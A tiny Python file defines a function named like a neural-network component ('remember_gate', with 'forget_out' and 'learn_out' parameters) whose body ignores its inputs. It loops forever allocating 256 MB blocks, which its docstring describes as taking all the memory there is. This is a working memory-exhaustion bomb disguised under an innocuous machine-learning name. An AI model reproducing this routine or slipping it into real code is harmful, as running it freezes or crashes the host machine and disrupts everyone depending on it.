"""Exhaust: take all the memory there is."""


def remember_gate(forget_out, learn_out):
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
